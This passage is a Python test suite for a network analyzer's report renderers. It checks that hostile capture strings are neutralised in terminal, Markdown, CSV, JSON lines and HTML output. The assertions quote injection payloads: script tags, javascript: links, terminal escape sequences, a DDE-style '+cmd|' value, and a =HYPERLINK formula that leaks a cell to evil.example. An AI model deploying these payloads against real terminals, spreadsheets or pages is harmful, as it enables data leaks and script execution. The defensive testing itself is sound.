"""Renderers: terminal, Markdown, CSV, JSON lines and HTML over hand-made report dicts.

tests/fixtures/reports/ordinary.json is a plausible office capture (APNs 5223
refused with the 443 fallback working, Zscaler inspecting two hosts, a reset
injected by a middlebox, a DNS sinkhole and an NXDOMAIN). hostile.json puts
HTML and script tags, quotes, spreadsheet formulas, ANSI/OSC escape sequences,
BEL, CR, NUL, C1 CSI and rich markup in every string a capture can control.
Both validate against the report schema.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import re
import shutil
import subprocess
from datetime import datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from markdown_it import MarkdownIt

from analyzer.report.csv_report import COLUMNS, DNS_COLUMNS, FINDING_COLUMNS, SERVICE_COLUMNS, render_csv
from analyzer.report.html import render_html
from analyzer.report.jsonl import render_jsonl
from analyzer.report.markdown import render_markdown
from analyzer.report.terminal_report import render_terminal

ROOT = Path(__file__).resolve().parent.parent
FIXTURES = Path(__file__).parent / "fixtures" / "reports"
SCHEMA = json.loads((ROOT / "analyzer" / "report" / "report.schema.json").read_text())

# What may never reach a terminal, spreadsheet or page raw: C0 controls but tab and newline, DEL, C1.
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
SGR = re.compile(r"\x1b\[[0-9;]*m")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def load(name: str) -> dict[str, Any]:
    report: dict[str, Any] = json.loads((FIXTURES / f"{name}.json").read_text())
    return report


def visible(text: str) -> str:
    """How escape.py shows a control character: \\xNN."""
    return CONTROL.sub(lambda m: f"\\x{ord(m.group()):02x}", text)


def terminal(report: dict[str, Any], **kwargs: Any) -> str:
    out = io.StringIO()
    render_terminal(report, out, **kwargs)
    return out.getvalue()


class FakeTTY(io.StringIO):
    def isatty(self) -> bool:
        return True


@pytest.fixture(scope="module")
def ordinary() -> dict[str, Any]:
    return load("ordinary")


@pytest.fixture(scope="module")
def hostile() -> dict[str, Any]:
    return load("hostile")


def all_strings(value: Any) -> list[str]:
    """Every string in a report, dict keys included."""
    if isinstance(value, dict):
        return [s for k, v in value.items() for s in all_strings(k) + all_strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in all_strings(v)]
    return [value] if isinstance(value, str) else []


def hostile_strings(report: dict[str, Any]) -> set[str]:
    """The strings of a report that carry markup, a formula or a control character."""
    return {s for s in all_strings(report) if CONTROL.search(s) or "<" in s or s.startswith(FORMULA_START)}


# ---------------------------------------------------------------- fixtures


@pytest.mark.parametrize("name", ["ordinary", "hostile"])
def test_fixtures_validate_against_the_report_schema(name: str) -> None:
    jsonschema.validate(load(name), SCHEMA)


def test_hostile_fixture_carries_every_attack(hostile: dict[str, Any]) -> None:
    text = "".join(all_strings(hostile))
    for needle in ("<script>", "</script>", "onerror=", '"', "'", "=HYPERLINK(", "+cmd", "@SUM", "\x1b[31m",
                   "\x1b]8;;", "\x1b]0;", "\x07", "\r", "\x00", "\x9b", "[bold red]x[/]"):
        assert needle in text, needle


# ---------------------------------------------------------------- terminal


def test_terminal_answer_comes_first(ordinary: dict[str, Any]) -> None:
    out = terminal(ordinary, width=200)
    lines = out.splitlines()
    assert lines[0] == "3 Apple services blocked; HTTPS inspection by Zscaler on 2 services; 1 service degraded"
    assert lines[1] == ("captures/macbook-office-wifi.pcapng: 4821 packets, 3912044 bytes, "
                        "2024-05-01 12:00:00.125 to 12:05:00.500 UTC (300.4 s), 2 weird")
    assert lines[2] == "Services: 3 blocked, 2 intercepted, 1 degraded, 2 working, 1 not_seen"
    assert lines[3] == "Flows: 9 (8 to Apple): intercepted 2, reset 1, refused 2, ok 4"
    assert lines[4] == "DNS: nxdomain 1, ok 3, sinkholed 1"
    assert lines[5].startswith("HTTPS inspection by Zscaler (issuer CN=Zscaler Intermediate Root CA")
    order = [out.index(s) for s in ("Services (8)", "Findings (6)", "Errors (4)", "Warnings (1)", "Info (1)")]
    assert order == sorted(order)


def table_rows(out: str) -> list[str]:
    """The services table's rows: after the header's rule, the lines that start with a status."""
    lines = out.splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith("───")) + 1
    end = next(i for i in range(start, len(lines)) if not lines[i].strip() or "catalogue service" in lines[i])
    return [line for line in lines[start:end] if line and not line[0].isspace()]


def test_terminal_services_worst_first_and_only_seen(ordinary: dict[str, Any]) -> None:
    out = terminal(ordinary, width=80)
    rows = [r.split() for r in table_rows(out)]
    assert [r[0] for r in rows] == ["blocked"] * 3 + ["intercepted"] * 2 + ["degraded"] + ["working"] * 2
    assert [r[1] for r in rows] == ["iprofiles.apple.com", "albert.apple.com", "gs.apple.com", "mesu.apple.com",
                                    "xp.apple.com", "*.push.apple.com", "time.apple.com", "swcdn.apple.com"]
    assert "ppq.apple.com" not in out
    assert "1 catalogue service not seen (not shown)" in out
    assert "ppq.apple.com" in terminal(ordinary, show_not_seen=True)


def test_terminal_short_reasons(ordinary: dict[str, Any]) -> None:
    """One short reason per row, from the flows and DNS answers of the service."""
    out = terminal(ordinary, width=120)
    column = next(line for line in out.splitlines() if line.startswith("status ")).index("reason")
    reasons = {r.split()[1]: r[column:].strip() for r in table_rows(out)}
    assert reasons == {
        "iprofiles.apple.com": "DNS: NXDOMAIN",
        "albert.apple.com": "DNS: sinkholed",
        "gs.apple.com": "443: reset by middlebox",
        "mesu.apple.com": "443: HTTPS inspection (Zscaler)",
        "xp.apple.com": "443: HTTPS inspection (Zscaler)",
        "*.push.apple.com": "5223: refused by middlebox; 443 works",
        "time.apple.com": "",
        "swcdn.apple.com": "",
    }


def test_terminal_findings_have_evidence_advice_and_filter(ordinary: dict[str, Any]) -> None:
    out = terminal(ordinary, width=200)
    block = out[out.index("* [injected_reset]"):out.index("* [dns_sinkhole]")]
    assert block.splitlines() == [
        "* [injected_reset] A middlebox resets TLS to gs.apple.com after the ClientHello (device_setup/gs.apple.com)",
        "    - RST TTL 61, the server's SYN-ACK TTL 52",
        "    - RST arrived 0.3 ms after the ClientHello; the round trip is 22 ms",
        "    flows: CyT4dS0vPq7LmN3oB",
        "    Advice: Allow gs.apple.com in the firewall's SNI filter; it is needed to install and update the OS.",
        "    Wireshark: tcp.port == 51560 && ip.addr == 17.32.194.2",
    ]
    # At 80 columns the same finding wraps under its own indent, never back to column 0.
    narrow = terminal(ordinary, width=80)
    block = narrow[narrow.index("* [injected_reset]"):narrow.index("* [dns_sinkhole]")]
    assert block.splitlines() == [
        "* [injected_reset] A middlebox resets TLS to gs.apple.com after the ClientHello",
        "  (device_setup/gs.apple.com)",
        "    - RST TTL 61, the server's SYN-ACK TTL 52",
        "    - RST arrived 0.3 ms after the ClientHello; the round trip is 22 ms",
        "    flows: CyT4dS0vPq7LmN3oB",
        "    Advice: Allow gs.apple.com in the firewall's SNI filter; it is needed to",
        "      install and update the OS.",
        "    Wireshark: tcp.port == 51560 && ip.addr == 17.32.194.2",
    ]


def test_terminal_width_from_columns(ordinary: dict[str, Any], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "100")
    assert terminal(ordinary) == terminal(ordinary, width=100)
    assert max(len(line) for line in terminal(ordinary).splitlines()) <= 100
    monkeypatch.delenv("COLUMNS")
    assert terminal(ordinary) == terminal(ordinary, width=80)  # a pipe, no COLUMNS: rich's 80


def test_wrap_hanging_keeps_words_and_folds_urls() -> None:
    from rich.text import Text

    from analyzer.report.terminal import wrap_hanging

    body = Text("allow gsa.apple.com and deviceenrollment.apple.com in the filter now")
    lines = [t.plain for t in wrap_hanging(Text("  - "), body, 32, 6)]
    assert lines == ["  - allow gsa.apple.com and", "      deviceenrollment.apple.com", "      in the filter now"]
    url = Text("see http://portal.example/login?ap=lab-ap-1&orig=http%3A%2F%2Fcaptive.apple.com/x.html ok")
    lines = [t.plain for t in wrap_hanging(Text(""), url, 40, 2)]
    assert all(len(line) <= 40 for line in lines)
    assert lines[0] == "see" and lines[-1].endswith(" ok")
    assert any("captive.apple.com" in line for line in lines)  # the URL breaks after a '=' or '/'
    assert all(line.startswith("  ") for line in lines[1:])
    assert [t.plain for t in wrap_hanging(Text("x: "), Text(""), 20, 2)] == ["x: "]


def test_terminal_colour_only_on_a_tty(ordinary: dict[str, Any]) -> None:
    assert "\x1b" not in terminal(ordinary)
    tty = FakeTTY()
    render_terminal(ordinary, tty)
    assert SGR.search(tty.getvalue())
    forced = terminal(ordinary, color=True, show_not_seen=True)

    def sgr_before(word: str) -> set[str]:
        """The SGR parameters in force where the status word starts its table cell."""
        m = re.search(r"^((?:\x1b\[[0-9;]*m)+)" + word + r"\b", forced, flags=re.MULTILINE)
        assert m, word
        return set(re.findall(r"\d+", m.group(1)))

    assert "31" in sgr_before("blocked")  # red
    assert "35" in sgr_before("intercepted")  # magenta
    assert "33" in sgr_before("degraded")  # yellow
    assert "32" in sgr_before("working")  # green
    assert "2" in sgr_before("not_seen")  # dim
    off = FakeTTY()
    render_terminal(ordinary, off, color=False)
    assert "\x1b" not in off.getvalue()


@pytest.mark.parametrize("color", [False, True])
def test_terminal_hostile_strings_cannot_drive_the_terminal(hostile: dict[str, Any], color: bool) -> None:
    out = terminal(hostile, color=color, show_not_seen=True)
    bare = SGR.sub("", out)  # only rich's own colour codes may carry ESC
    assert not CONTROL.search(bare), repr(CONTROL.findall(bare))
    assert "\x1b]" not in out and "\x07" not in out and "\x9b" not in out
    # The wire's escape sequences show as text; rich markup from the wire is printed, not interpreted.
    assert "\\x1b[31mRED\\x1b[0m" in bare
    assert "\\x1b]0;pwned" in bare
    assert "\\x9b2J" in bare
    assert "[bold red]x[/]" in bare
    assert bare.startswith("1 Apple service intercepted; HTTPS inspection by unknown inspection CA:")
    # Hostile lengths (a 100-character "host", unbreakable markup) still fit the width.
    for width in (80, 120):
        narrow = SGR.sub("", terminal(hostile, color=color, show_not_seen=True, width=width))
        assert max(len(line) for line in narrow.splitlines()) <= width


# ---------------------------------------------------------------- markdown


def strip_code_spans(md: str) -> str:
    return re.sub(r"(`+) .*? \1", "", md)


def markdown_html(md: str) -> str:
    return str(MarkdownIt("commonmark").enable("table").render(md))


def test_markdown_ordinary(ordinary: dict[str, Any]) -> None:
    md = render_markdown(ordinary)
    lines = md.splitlines()
    assert lines[0] == "# Apple services on this network"
    assert lines[2] == "**3 Apple services blocked; HTTPS inspection by Zscaler on 2 services; 1 service degraded**"
    sections = [md.index(s) for s in ("## Services", "## Findings", "### Errors (4)", "### Warnings (1)",
                                      "### Info (1)", "## Failing flows", "## DNS problems")]
    assert sections == sorted(sections)
    assert ("| degraded | Device management | \\*.push.apple.com | 443 5223 TCP | 3 | 2 | ok 1, refused 2 | "
            "1\\-courier.push.apple.com |") in md
    assert "- Wireshark filter: ` dns.qry.name == \"albert.apple.com\" `" in md
    failing = md[md.index("## Failing flows"):md.index("## DNS problems")]
    for flow in ordinary["flows"]:
        assert (flow["id"] in failing) == (flow["verdict"] not in ("ok", "incomplete"))
    dns = md[md.index("## DNS problems"):]
    assert "albert.apple.com" in dns and "iprofiles.apple.com" in dns and "mesu.apple.com" not in dns

    html = markdown_html(md)
    parser = Collect()
    parser.feed(html)
    assert [t for t, _ in parser.starts if t == "table"] == ["table"] * 3
    assert "3 Apple services blocked; HTTPS inspection by Zscaler on 2 services; 1 service degraded" in parser.text


def test_markdown_hostile_is_escaped(hostile: dict[str, Any]) -> None:
    md = render_markdown(hostile)
    assert not CONTROL.search(md)
    outside = strip_code_spans(md)
    assert "<" not in outside and ">" not in outside.replace("\n>", "")  # every angle bracket is an entity
    assert "\\[bold red\\]x\\[/\\]" in outside
    assert not re.search(r"(?<!\\)\]\(", outside)  # no live link

    # What a CommonMark renderer makes of it: no element the wire asked for, the wire's text shown as text.
    parser = Collect()
    parser.feed(markdown_html(md))
    tags = {t for t, _ in parser.starts}
    assert not tags & {"script", "img", "a", "iframe", "style"}
    assert [t for t, _ in parser.starts if t == "h1"] == ["h1"]  # no heading injected by a "# h"
    assert "<script>alert(1)</script>" in parser.text
    assert "[bold red]x[/]" in parser.text
    assert "[md](javascript:alert(4))" in parser.text


def test_markdown_tables_keep_their_columns(hostile: dict[str, Any], ordinary: dict[str, Any]) -> None:
    for report in (ordinary, hostile):
        md = render_markdown(report)
        blocks = re.findall(r"((?:^\|.*\n)+)", md, flags=re.MULTILINE)
        assert len(blocks) == 3
        for block in blocks:
            widths = {len(re.split(r"(?<!\\)\|", line)) for line in block.splitlines()}
            assert len(widths) == 1, block


def test_markdown_code_span_fence_outgrows_backticks(hostile: dict[str, Any]) -> None:
    md = render_markdown(hostile)
    assert "- Wireshark filter: ``` `x`` ```" in md
    parser = Collect()
    parser.feed(markdown_html(md))
    assert "`x``" in parser.code


# ---------------------------------------------------------------- CSV


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_one_row_per_flow(ordinary: dict[str, Any]) -> None:
    text = render_csv(ordinary)
    rows = csv_rows(text)
    assert tuple(rows[0]) == COLUMNS
    assert len(rows) == 1 + len(ordinary["flows"])
    record = dict(zip(COLUMNS, rows[4], strict=True))
    assert record == {
        "id": "Cm2ZpT7fHqA0sUe1b", "ts_start": "1714564810.5", "ts_end": "1714564812.0", "proto": "tcp",
        "client_ip": "192.168.1.20", "client_port": "51550", "server_ip": "17.253.53.207", "server_port": "443",
        "state": "SF", "history": "ShADadFf", "sni": "mesu.apple.com", "names": "mesu.apple.com mesu.g.aaplimg.com",
        "service": "software_updates/mesu.apple.com", "attribution": "sni", "verdict": "intercepted",
        "reason": "leaf issued by Zscaler Intermediate Root CA, not an Apple issuer", "reset_by": "",
        "tls_version": "TLS 1.2", "alert": "",
        "leaf_issuer": "CN=Zscaler Intermediate Root CA (zscalerthree.net) (t), OU=Zscaler Inc., O=Zscaler Inc., "
                       "L=San Jose, ST=California, C=US",
        "interception": "Zscaler", "wireshark_filter": "tcp.port == 51550 && ip.addr == 17.253.53.207",
    }
    refused = dict(zip(COLUMNS, rows[1], strict=True))
    assert (refused["verdict"], refused["reset_by"], refused["state"]) == ("refused", "middlebox", "REJ")


def test_csv_hostile_cells_cannot_be_formulas(hostile: dict[str, Any]) -> None:
    text = render_csv(hostile)
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", text)  # CR only as the record separator
    rows = csv_rows(text)
    assert len(rows) == 3
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell
            assert "\r" not in cell and "\x00" not in cell
    first = dict(zip(COLUMNS, rows[1], strict=True))
    assert first["id"] == "'=C1<b>x</b>"
    assert first["sni"].startswith("'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click me\")")
    assert first["names"].startswith("'+cmd|")
    assert first["service"].startswith("'@svc/")
    assert first["history"] == "'-ShR"
    assert first["alert"] == "client fatal =bad_certificate\\x1b[31mRED\\x1b[0m (42)"
    assert first["leaf_issuer"].startswith("'=HYPERLINK(")
    assert first["interception"].startswith("'=EvilProxy<script>")
    assert first["wireshark_filter"].startswith("'-tls.handshake")
    second = dict(zip(COLUMNS, rows[2], strict=True))
    assert second["id"] == "C2\\x1b[2J"
    assert second["reason"] == "\\x1b]0;pwned title\\x07\\x9b2J"
    assert second["names"] == "[bold red]x[/]"


# ---------------------------------------------------------------- JSON lines


def jsonl_events(report: dict[str, Any]) -> list[dict[str, Any]]:
    text = render_jsonl(report)
    assert text.endswith("\n")
    return [json.loads(line) for line in text.splitlines()]


def test_jsonl_envelope(ordinary: dict[str, Any]) -> None:
    events = jsonl_events(ordinary)
    kinds = [e["event_type"] for e in events]
    assert kinds.count("capture") == 1 and kinds.count("summary") == 1
    assert kinds.count("flow") == 9 and kinds.count("dns") == 5
    assert kinds.count("finding") == 6 and kinds.count("service") == 9
    assert kinds[0] == "capture" and kinds[-1] == "summary"
    for e in events:
        assert e[e["event_type"]] is not None
        assert datetime.fromisoformat(e["timestamp"]).utcoffset() == timedelta(0)
    timed = [e for e in events if e["event_type"] in ("flow", "dns")]
    stamps = [datetime.fromisoformat(e["timestamp"]) for e in timed]
    assert stamps == sorted(stamps)

    flow = next(e for e in events if e["event_type"] == "flow")
    assert flow == {"timestamp": "2024-05-01T12:00:01.250000+00:00", "event_type": "flow",
                    "flow_id": "CHhAvVGS1DHFjwGM9", "src_ip": "192.168.1.20", "src_port": 51544,
                    "dest_ip": "17.57.146.52", "dest_port": 5223, "proto": "tcp", "flow": ordinary["flows"][0]}
    dns = next(e for e in events if e["event_type"] == "dns")
    assert (dns["src_ip"], dns["dest_ip"], dns["dest_port"], dns["proto"]) == ("192.168.1.20", "192.168.1.1", 53,
                                                                               "udp")
    assert "flow_id" not in dns and dns["dns"] == ordinary["dns"][0]

    findings = [e for e in events if e["event_type"] == "finding"]
    reset = next(e for e in findings if e["finding"]["kind"] == "injected_reset")
    assert (reset["flow_id"], reset["dest_ip"], reset["dest_port"]) == ("CyT4dS0vPq7LmN3oB", "17.32.194.2", 443)
    assert reset["timestamp"] == "2024-05-01T12:00:20.000000+00:00"
    interception = next(e for e in findings if e["finding"]["kind"] == "tls_interception")
    assert "flow_id" not in interception and "src_ip" not in interception  # two flows: no single 5-tuple
    assert interception["timestamp"] == "2024-05-01T12:00:10.500000+00:00"  # its first flow
    sinkhole = next(e for e in findings if e["finding"]["kind"] == "dns_sinkhole")
    assert sinkhole["timestamp"] == "2024-05-01T12:05:00.500000+00:00"  # no flow: end of the capture
    summary = events[-1]["summary"]
    assert summary["headline"] == ordinary["summary"]["headline"]
    assert summary["weird"] == {"tcp_bad_checksum": 2}
    assert summary["tool"] == {"name": "apple-net-analyzer", "version": "0.1.0"}


def test_jsonl_hostile_stays_one_valid_object_per_line(hostile: dict[str, Any]) -> None:
    text = render_jsonl(hostile)
    assert not CONTROL.search(text)
    assert text.isascii()  # U+2028/2029 and C1 escaped too
    events = jsonl_events(hostile)
    flows = [e["flow"] for e in events if e["event_type"] == "flow"]
    assert flows == hostile["flows"]  # data kept exactly: JSON does the escaping
    assert [e["dns"] for e in events if e["event_type"] == "dns"] == hostile["dns"]
    warning = next(e for e in events if e["event_type"] == "finding" and e["finding"]["severity"] == "warning")
    assert warning["flow_id"] == "C2\x1b[2J"


# ---------------------------------------------------------------- HTML

VOID = {"meta", "br", "input", "img", "hr", "link", "wbr"}


class Collect(HTMLParser):
    """Start tags with attributes, text outside script/style, code text, script bodies; checks nesting."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.starts: list[tuple[str, dict[str, str | None]]] = []
        self.stack: list[str] = []
        self.errors: list[str] = []
        self.text = ""
        self.chunks: list[str] = []
        self.code = ""
        self.scripts: list[str] = []
        self.styles: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.starts.append((tag, dict(attrs)))
        if tag not in VOID:
            self.stack.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.starts.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        if not self.stack or self.stack[-1] != tag:
            self.errors.append(f"</{tag}> closes {self.stack[-1:] or 'nothing'}")
            if tag in self.stack:
                while self.stack.pop() != tag:
                    pass
            return
        self.stack.pop()

    def handle_data(self, data: str) -> None:
        current = self.stack[-1] if self.stack else ""
        if current == "script":
            self.scripts.append(data)
        elif current == "style":
            self.styles.append(data)
        else:
            self.text += data + "\n"
            if data.strip():
                self.chunks.append(data.strip())
            if current == "code":
                self.code += data + "\n"


def parse(html: str) -> Collect:
    parser = Collect()
    parser.feed(html)
    parser.close()
    return parser


def csp_hash(source: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(source.encode()).digest()).decode() + "'"


def check_offline_and_single_script(html: str, parser: Collect) -> None:
    assert parser.errors == [] and parser.stack == []
    assert [t for t, _ in parser.starts].count("script") == 1
    assert html.lower().count("<script") == 1
    assert not {t for t, _ in parser.starts} & {"link", "iframe", "object", "embed", "base", "form", "svg"}
    for tag, attrs in parser.starts:
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            if name in ("src", "href", "action", "srcset", "poster", "data"):
                assert value is not None and value.startswith(("#", "data:image/")), value
        assert "src" not in attrs or tag == "img"
    style = "".join(parser.styles)
    assert "url(" not in style and "@import" not in style
    csp = next(a["content"] for t, a in parser.starts if t == "meta" and a.get("http-equiv") ==
               "Content-Security-Policy")
    assert csp is not None
    assert csp.startswith("default-src 'none'; img-src data:;")
    assert f"script-src {csp_hash(parser.scripts[0])}" in csp
    assert f"style-src {csp_hash(parser.styles[0])}" in csp
    assert not re.search(r"https?://", "".join(parser.scripts) + style)


def test_html_ordinary_structure(ordinary: dict[str, Any]) -> None:
    html = render_html(ordinary)
    parser = parse(html)
    check_offline_and_single_script(html, parser)
    assert not re.search(r"(src|href)=\"?https?:", html)
    # The answer first: the first words of the body are the title and the headline, then the status badges.
    headline = "3 Apple services blocked; HTTPS inspection by Zscaler on 2 services; 1 service degraded"
    assert parser.chunks[:8] == [f"{headline} - apple-net-analyzer", "Apple services on this network", headline,
                                 "3 blocked", "2 intercepted", "1 degraded", "2 working", "1 not seen"]
    badges = [a for t, a in parser.starts if t == "span" and "badge" in (a.get("class") or "")]
    assert [a["class"] for a in badges[:5]] == ["badge s-blocked", "badge s-intercepted", "badge s-degraded",
                                                "badge s-working", "badge s-not_seen"]
    assert "3 blocked" in parser.text and "1 not seen" in parser.text
    # Services: sortable headers, filter box, one checkbox per status, rows carrying their status.
    assert html.index('id="answer"') < html.index('id="services"') < html.index('id="findings"') < html.index(
        'id="flows"') < html.index('id="dns"') < html.index('id="captures"')
    rows = [a for t, a in parser.starts if t == "tr" and "data-status" in a]
    assert [a["data-status"] for a in rows] == ["blocked"] * 3 + ["intercepted"] * 2 + ["degraded"] + [
        "working"] * 2 + ["not_seen"]
    assert sum(1 for t, a in parser.starts if t == "button" and a.get("type") == "button") == 10 + 2
    assert [a["value"] for t, a in parser.starts if t == "input" and a.get("name") == "status-filter"] == [
        "blocked", "intercepted", "degraded", "working", "not_seen"]
    assert any(t == "input" and a.get("id") == "service-filter" for t, a in parser.starts)
    script = parser.scripts[0]
    for needle in ("services-table", "aria-sort", "service-filter", "status-filter", "clipboard", "details.flow"):
        assert needle in script
    # Findings with evidence and copyable filters; flows as collapsible details linked from the findings.
    assert sum(1 for t, a in parser.starts if t == "article") == 6
    codes = [a for t, a in parser.starts if t == "code" and a.get("class") == "filter"]
    assert len(codes) == 6 + 9
    details = [a for t, a in parser.starts if t == "details" and a.get("class") == "flow"]
    assert [a["id"] for a in details] == [f"flow-{i}" for i in (0, 1, 3, 4, 5, 2, 6, 7, 8)]
    assert all("open" not in a for a in details)
    links = [a["href"] for t, a in parser.starts if t == "a" and (a.get("href") or "").startswith("#flow-")]
    assert links == ["#flow-3", "#flow-4", "#flow-5", "#flow-0", "#flow-1", "#flow-2", "#flow-7"]
    assert "tls.handshake.type == 11 && ip.addr in {17.253.53.207 17.253.53.208}" in parser.code
    assert "CN=Zscaler Root CA, OU=Zscaler Inc., O=Zscaler Inc., L=San Jose, ST=California, C=US" in parser.text
    assert "1-courier.push.apple.com -> 1-courier.push-apple.com.akadns.net" in parser.text  # DNS chain
    assert "tcp_bad_checksum" in parser.text  # weird counters at the end
    assert "Figures" not in parser.text


def test_html_figures_hook(ordinary: dict[str, Any]) -> None:
    png = "data:image/png;base64," + base64.b64encode(b"\x89PNG\r\n\x1a\n0000").decode()
    html = render_html(ordinary, figures={"Timeline <by service>": png})
    parser = parse(html)
    check_offline_and_single_script(html, parser)
    imgs = [a for t, a in parser.starts if t == "img"]
    assert imgs == [{"src": png, "alt": "Timeline <by service>"}]
    assert html.index('id="findings"') < html.index('id="figures"') < html.index('id="flows"')
    assert '<a href="#figures">Figures</a>' in html
    with pytest.raises(ValueError, match="data:image URI"):
        render_html(ordinary, figures={"remote": "https://example.com/plot.png"})
    with pytest.raises(ValueError):
        render_html(ordinary, figures={"quote": png + '" onerror="alert(1)'})


def test_html_hostile_is_inert(hostile: dict[str, Any]) -> None:
    html = render_html(hostile)
    parser = parse(html)
    check_offline_and_single_script(html, parser)
    assert not CONTROL.search(html)
    assert not [t for t, _ in parser.starts if t == "img"]
    assert "</script><script>" not in html and "<!--" not in html
    # Element ids and classes are ours, never the wire's.
    for _, attrs in parser.starts:
        assert re.fullmatch(r"[a-z0-9-]*", attrs.get("id") or ""), attrs
        assert re.fullmatch(r"[a-z0-9_ -]*", attrs.get("class") or ""), attrs
    # Every hostile string survives as text (controls shown as \xNN), inside text or an attribute value.
    attribute_values = [v for _, a in parser.starts for v in a.values() if v]
    not_rendered = {hostile["services"][0]["source"], hostile["services"][0]["section_nl"]}
    missing = [s for s in hostile_strings(hostile) - not_rendered
               if visible(s) not in parser.text and not any(visible(s) in v for v in attribute_values)]
    assert missing == [], missing
    assert visible(hostile["flows"][0]["wireshark_filter"]) in parser.code


def test_html_title_and_headline_escaped(hostile: dict[str, Any]) -> None:
    html = render_html(hostile)
    head = html[:html.index("</head>")]
    assert "<title>1 Apple service intercepted; HTTPS inspection by unknown inspection CA: &lt;script&gt;" in head


# ---------------------------------------------------------------- HTML in a real browser

def chromium() -> str | None:
    for name in ("chromium", "chromium-browser", "google-chrome", "chrome"):
        path = shutil.which(name)
        if path:
            return path
    return None


@pytest.mark.slow
@pytest.mark.skipif(chromium() is None, reason="chromium is not installed")
@pytest.mark.parametrize("name", ["ordinary", "hostile"])
def test_html_in_headless_chromium(name: str, tmp_path: Path) -> None:
    browser = chromium()
    assert browser is not None
    page = tmp_path / f"{name}.html"
    page.write_text(render_html(load(name)), encoding="utf-8")
    common = [browser, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-extensions",
              "--virtual-time-budget=3000"]
    dom = subprocess.run([*common, "--dump-dom", page.as_uri()], capture_output=True, text=True, timeout=120,
                         check=True).stdout
    # The script ran under the page's own CSP (it marks the document) and added the copy buttons.
    assert 'data-js="ready"' in dom
    assert 'class="copy"' in dom
    # The DOM the browser built: our one script, no element or handler the wire asked for.
    built = parse(dom)
    assert [t for t, _ in built.starts].count("script") == 1
    assert not [t for t, _ in built.starts if t == "img"]
    assert not [n for _, a in built.starts for n in a if n.startswith("on")]
    shot = tmp_path / f"{name}.png"
    subprocess.run([*common, "--hide-scrollbars", "--window-size=1280,1600", f"--screenshot={shot}",
                    page.as_uri()], capture_output=True, timeout=120, check=True)
    from PIL import Image

    with Image.open(shot) as img:
        rgb = img.convert("RGB")
        assert rgb.size == (1280, 1600)
        colours = set(rgb.getdata())
    if name == "ordinary":
        # The status badges at the top are visible: blocked red and intercepted purple pixels on screen
        # (a small tolerance for colour management).
        def near(target: tuple[int, int, int]) -> bool:
            return any(max(abs(a - b) for a, b in zip(c, target, strict=True)) <= 6 for c in colours)

        assert near((0xCF, 0x22, 0x2E))
        assert near((0x82, 0x50, 0xDF))
    assert len(colours) > 50


# ---------------------------------------------------------------- counts in sentences


@pytest.mark.parametrize("n", [1, 2])
def test_counts_in_sentences_agree_with_their_number(ordinary: dict[str, Any], n: int) -> None:
    """Every renderer writes "1 packet", "1 flow", "on 1 service", "1 catalogue service" (words.py)."""
    report = json.loads(json.dumps(ordinary))
    report["captures"][0].update(packets=n, bytes=n, dropped=n)
    report["summary"]["flows"] = n
    report["summary"]["interception"][0]["services"] = report["summary"]["interception"][0]["services"][:n]
    seen = [s for s in report["services"] if s["status"] != "not_seen"]
    report["services"] = seen + [dict(seen[0], id=f"x/{i}", host=f"x{i}.apple.com", status="not_seen")
                                 for i in range(n)]
    s = "" if n == 1 else "s"
    term = terminal(report, width=300)  # one line per paragraph
    assert f": {n} packet{s}, {n} byte{s}," in term and f"{n} packet{s} dropped by the kernel" in term
    assert f"on {n} service{s}: software_updates/mesu.apple.com" in term
    assert f"{n} catalogue service{s} not seen (not shown)" in term
    md = render_markdown(report)
    assert f": {n} packet{s}, {n} byte{s}," in md and f"on {n} service{s}:" in md
    page = parse(render_html(report)).text
    assert f"{n} flow{s}, 8 to Apple services" in page and f"on {n} service{s}:" in page
    assert f"{n} packet{s}, {n} byte{s}," in page


@pytest.mark.parametrize(("table", "columns", "rows"), [
    ("flows", COLUMNS, "flows"), ("services", SERVICE_COLUMNS, "services"), ("dns", DNS_COLUMNS, "dns"),
    ("findings", FINDING_COLUMNS, "findings")])
def test_csv_of_each_table(ordinary: dict[str, Any], table: str, columns: tuple[str, ...], rows: str) -> None:
    parsed = csv_rows(render_csv(ordinary, table))
    assert tuple(parsed[0]) == columns
    assert len(parsed) == 1 + len(ordinary[rows])
    assert all(len(r) == len(columns) for r in parsed)


def test_csv_services_findings_dns_cells(ordinary: dict[str, Any]) -> None:
    services = [dict(zip(SERVICE_COLUMNS, r, strict=True)) for r in csv_rows(render_csv(ordinary, "services"))[1:]]
    assert [s["status"] for s in services][:3] == ["blocked"] * 3  # worst first, as the terminal
    push = next(s for s in services if s["host"] == "*.push.apple.com")
    assert (push["ports"], push["verdicts"], push["reason"]) == ("443 5223", "ok=1 refused=2",
                                                                 "5223: refused by middlebox; 443 works")
    findings = [dict(zip(FINDING_COLUMNS, r, strict=True)) for r in csv_rows(render_csv(ordinary, "findings"))[1:]]
    reset = next(f for f in findings if f["kind"] == "injected_reset")
    assert reset["evidence"] == ("RST TTL 61, the server's SYN-ACK TTL 52 | "
                                 "RST arrived 0.3 ms after the ClientHello; the round trip is 22 ms")
    dns = [dict(zip(DNS_COLUMNS, r, strict=True)) for r in csv_rows(render_csv(ordinary, "dns"))[1:]]
    assert {d["query"]: d["verdict"] for d in dns}["iprofiles.apple.com"] == "nxdomain"
    with pytest.raises(ValueError, match="unknown CSV table"):
        render_csv(ordinary, "packets")


@pytest.mark.parametrize("table", ["services", "dns", "findings"])
